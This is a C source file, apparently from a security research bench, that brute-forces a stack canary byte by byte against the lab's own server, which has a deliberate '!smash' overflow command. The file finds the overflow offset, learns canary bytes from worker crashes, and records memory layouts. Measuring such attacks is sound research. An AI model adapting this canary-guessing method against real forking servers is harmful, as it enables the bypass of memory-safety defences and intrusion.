#include "attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/clock.h"
#include "bench/proc.h"
#include "probe.h"

enum {
	WAIT_MS = 20000, /* for an answer; a takeover takes a few */
	TEXT_MAX = 56,	 /* bytes that a line of !smash has room for */
	FILLER = 'A',
	RANGES = 512
};

enum fate { SURVIVED, DIED, REFUSED, SILENT };

/* The attacker has one connection, and makes another when that was lost. */
struct talk {
	struct attack *a;
	struct instance *server;
	struct probes probes;
	struct layout *seen;
	int64_t room; /* of seen */
	pid_t worker; /* the last one that was met */
};

static const struct probe *
first(const struct talk *t)
{
	return &t->probes.probe[0];
}

/* --- what the laboratory sees --- */

static bool
layout_of(pid_t pid, struct layout *l)
{
	static struct proc_range range[RANGES];
	int n = proc_ranges(pid, range, RANGES);

	l->program = range[0].begin;
	while (n > 0 && strcmp(range[n - 1].name, "[stack]") != 0)
		n--;
	l->stack = n > 0 ? range[n - 1].end : 0;
	return n > 0;
}

static void
note_layout(struct talk *t)
{
	struct attack *a = t->a;
	struct layout l;
	int64_t i;

	if (a->layouts == t->room || !layout_of(t->worker, &l))
		return;
	for (i = 0; i < a->layouts; i++)
		if (t->seen[i].program == l.program &&
		    t->seen[i].stack == l.stack)
			return;
	t->seen[a->layouts++] = l;
	a->first = t->seen[0];
}

/* --- what the attacker does --- */

/* Connects, if there is no connection, and asks who serves it. */
static bool
meet(struct talk *t)
{
	pid_t pid;

	if (first(t)->state == PROBE_OPEN)
		return true;
	t->probes.count = 0;
	if (probes_connect(&t->probes, 1, WAIT_MS) != 1 ||
	    probes_ask(&t->probes, 0, 1, "!pid\n", WAIT_MS) != 1 ||
	    strncmp(first(t)->text, "pid ", 4) != 0)
		return false;
	pid = (pid_t)strtol(first(t)->text + 4, NULL, 10);
	if (pid == t->worker)
		return true;
	t->worker = pid;
	t->a->workers++;
	note_layout(t);
	return true;
}

/* Sends so many bytes before the canary, and those of it. */
static enum fate
send_bytes(struct talk *t, int before, const unsigned char *bytes, int n)
{
	char line[16 + 2 * TEXT_MAX];
	int i, at;

	if (before + n > TEXT_MAX)
		return REFUSED;
	if (!meet(t))
		return SILENT;
	at = snprintf(line, sizeof(line), "!smash ");
	for (i = 0; i < before + n; i++)
		at += snprintf(line + at, sizeof(line) - (size_t)at, "%02x",
		    i < before ? (unsigned)FILLER
			       : (unsigned)bytes[i - before]);
	(void)snprintf(line + at, sizeof(line) - (size_t)at, "\n");
	if (probes_ask(&t->probes, 0, 1, line, WAIT_MS) == 1)
		return strstr(first(t)->text, "is whole") != NULL ? SURVIVED
								  : REFUSED;
	/* Its log is read, so that its pipe does not become full. */
	(void)instance_listen(t->server);
	return first(t)->state == PROBE_LOST ? DIED : SILENT;
}

/* The canary begins with the first byte that may not be any. */
static enum fate
find_offset(struct talk *t)
{
	static const unsigned char given[GUESS_GIVEN], filler = FILLER;
	struct attack *a = t->a;
	enum fate fate;

	a->offset = -1;
	do {
		fate = send_bytes(t, ++a->offset, &filler, 1);
		a->guess.tries++;
	} while (fate == SURVIVED);
	if (fate != DIED)
		return fate;
	a->guess.deaths++;
	return send_bytes(t, a->offset, given, GUESS_GIVEN);
}

static enum attack_end
play(struct talk *t, int wanted, int64_t deaths, char why[ATTACK_WHY])
{
	unsigned char bytes[GUESS_BYTES];
	struct guess *g = &t->a->guess;
	enum fate fate = find_offset(t);
	int n;

	if (fate == REFUSED || fate == DIED) {
		(void)snprintf(why, ATTACK_WHY, "%s",
		    fate == DIED
			? "the canary does not begin with 0, as glibc has it"
			: "this build has no canary that could be guessed");
		return ATTACK_NO_WAY;
	}
	while (g->sure < GUESS_GIVEN + wanted && g->deaths < deaths &&
	       (fate == SURVIVED || fate == DIED)) {
		n = guess_next(g, bytes);
		fate = send_bytes(t, t->a->offset, bytes, n);
		if (fate == SURVIVED || fate == DIED)
			guess_learn(g, fate == SURVIVED);
	}
	if (fate == SURVIVED)
		return ATTACK_OVER;
	/* Whether the last one has a successor is a part of it. */
	if (fate == DIED && meet(t))
		return ATTACK_OVER;
	(void)snprintf(why, ATTACK_WHY, "the server does not answer");
	return ATTACK_FAILED;
}

enum attack_end
attack(struct attack *a, struct instance *server, int bytes, int64_t deaths,
    char why[ATTACK_WHY])
{
	int64_t begun = clock_now();
	struct talk t = {.a = a, .server = server, .room = deaths + 8};
	enum attack_end end = ATTACK_FAILED;

	memset(a, 0, sizeof(*a));
	guess_init(&a->guess);
	t.seen = calloc((size_t)t.room, sizeof(*t.seen));
	if (t.seen == NULL || probes_open(&t.probes, &server->dial, 1) != 0) {
		(void)snprintf(why, ATTACK_WHY, "no memory or descriptors");
	} else {
		end = play(&t, bytes, deaths, why);
		probes_close(&t.probes);
	}
	free(t.seen);
	a->ms = clock_now() - begun;
	return end;
}
